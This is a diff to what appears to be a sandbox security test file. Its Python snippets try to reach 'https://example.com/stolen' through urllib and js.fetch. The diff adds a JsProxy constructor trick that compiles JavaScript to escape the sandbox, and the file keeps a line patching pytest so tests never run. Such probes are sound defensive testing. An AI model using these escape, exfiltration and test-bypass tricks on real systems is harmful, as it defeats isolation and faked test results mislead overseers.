@@ -37,6 +37,7 @@ import _pytest.python
 _pytest.python.Function.runtest = lambda self: None
 """
 OUTSIDE = """
+import sys
 import urllib.request
 try:
     urllib.request.urlopen("https://example.com/stolen")
@@ -47,6 +48,13 @@ try:
     js.fetch("https://example.com/stolen")
 except (ImportError, PermissionError):
     pass
+proxies = [value for module in list(sys.modules.values()) for value in list(vars(module).values())]
+for proxy in (value for value in proxies if type(value).__name__ == "JsProxy"):
+    try:
+        proxy.constructor.constructor("return fetch('https://example.com/stolen')")()
+    except Exception:
+        continue
+    raise SystemExit("JavaScript was compiled")
 """
 HIDDEN = '''from app import app
 
